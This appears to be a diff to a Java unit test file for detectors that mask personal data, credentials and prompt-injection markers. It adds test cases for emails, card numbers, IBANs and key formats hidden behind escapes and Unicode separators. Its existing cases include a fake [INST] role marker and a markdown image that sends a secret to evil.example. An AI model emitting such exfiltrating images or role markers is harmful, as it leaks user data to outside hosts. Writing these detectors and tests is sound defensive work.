@@ -8,6 +8,7 @@ import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class DetectorsTest {
 
@@ -62,6 +63,18 @@ class DetectorsTest {
                 "injection | [inst]x[/INST] | [role-marker]x[role-marker]",
                 "injection | ![x](https://evil.example/p.png?q=secret) | [image-with-data]",
                 "injection | a\u202Eb | a[invisible-text]b",
+                "email | пишите иван@пример.рф, спасибо | пишите [email], спасибо",
+                "email | अजय@डाटा.भारत and 用户@例子.广告 and ann@пример.xn--p1ai. | [email] and [email] and [email].",
+                "email | ?to=ann%40example.com&x | ?to=[email]&x",
+                "card | a\\n4111111111111111 | a\\n[card]",
+                "card | 4111\u00A01111\u00A01111\u00A01111 | [card]",
+                "card | 4111\u202F1111\u202F1111\u20091111. | [card].",
+                "card | 4111–1111\u20111111−1111 | [card]",
+                "card | 4111\u200B1111\u00AD1111\u30001111 | [card]",
+                "iban | DE89\u00A03704\u00A00044\u00A00532\u00A00130\u00A000 and | [iban] and",
+                "us-ssn | 123\u201145\u20116789 | [us-ssn]",
+                "fr-nir | 2\u00A055\u00A008\u00A014\u00A0168\u00A0025\u00A038 | [fr-nir]",
+                "phone | +49\u00A030\u00A01234567 | [phone]",
                 "ipv6 | at 2001:0db8:0000:0000:0000:8a2e:0370:7334. | at [ipv6].",
             })
     void findsWhatItIsFor(String detector, String text, String expected) {
@@ -121,6 +134,73 @@ class DetectorsTest {
         });
         assertThat(masked(Detectors.CREDENTIALS, "jdbc:postgresql://me:hunter2@db/x"))
                 .isEqualTo("jdbc:postgresql[url-password]db/x");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "a\\n",
+                "\\t",
+                "a\\r\\n",
+                "a\\\\n",
+                "\\b",
+                "\\f",
+                "a\\u0022",
+                "\\\\u0022",
+                "a\\u00a0",
+                "\\x22",
+                "\\U00000022",
+                "a%22",
+                "a%3d",
+                "a%3D",
+                "%2522",
+                "%25252f",
+                "key=",
+                "\\u{22}",
+                "&#34;"
+            })
+    void findsKeysBehindEscapes(String before) {
+        Map<String, String> keys = Map.of(
+                "anthropic-key", "sk-ant-api03-" + A36,
+                "aws-key", "AKIA" + "IOSFODNN7EXAMPLE",
+                "github-token", "ghp_" + A36,
+                "jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
+                "bearer-token", "Bearer%20" + A36);
+        keys.forEach((detector, key) -> assertThat(masked(Detectors.CREDENTIALS, before + key + "\\n"))
+                .as(detector)
+                .isEqualTo(before + "[" + detector + "]\\n"));
+    }
+
+    @Test
+    void leavesWordsThatEndLikeAnEscape() {
+        for (String before : List.of("n", "u0022", "22", "x22", "5%2", "\\d", "\\u002", "ri")) {
+            String text = before + "sk-ant-api03-" + A36;
+            assertThat(masked("anthropic-key", text)).isEqualTo(text);
+        }
+    }
+
+    /** However long it is, all of it is replaced, in pieces of which each is a find. */
+    @ParameterizedTest
+    @ValueSource(ints = {400, 512, 513, 4_095, 4_096, 4_097, 8_192, 8_193, 16_384, 16_385, 40_000, 100_000})
+    void findsKeysOfAnyLength(int length) {
+        String many = "Ab3_".repeat(length / 4) + "x".repeat(length % 4);
+        List<String> texts = List.of(
+                "eyJ" + many + ".eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
+                "eyJhbGciOiJIUzI1NiJ9.eyJ" + many + ".dozjgNryP4J3jVmNHl0w5N",
+                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + many,
+                "Bearer " + many + "==",
+                "sk-ant-" + many,
+                "aos_" + many);
+        for (String text : texts) {
+            String left = masked(Detectors.CREDENTIALS, "<" + text + "> said ann");
+            assertThat(left.replaceAll("\\[[a-z-]+]", "*").replaceAll("[*]+", "*"))
+                    .as(text.substring(0, 20))
+                    .isEqualTo("<*> said ann");
+        }
+        String key = "-----BEGIN PRIVATE KEY-----\n" + many.replace('_', '\n') + "\n-----END PRIVATE KEY-----";
+        assertThat(masked("private-key", key)).doesNotContain("Ab3").startsWith("[private-key]");
+        String password = "https://me:" + many.substring(0, Math.min(length, 4_000)) + "@example.com";
+        assertThat(masked("url-password", password)).isEqualTo("https[url-password]example.com");
     }
 
     @Test
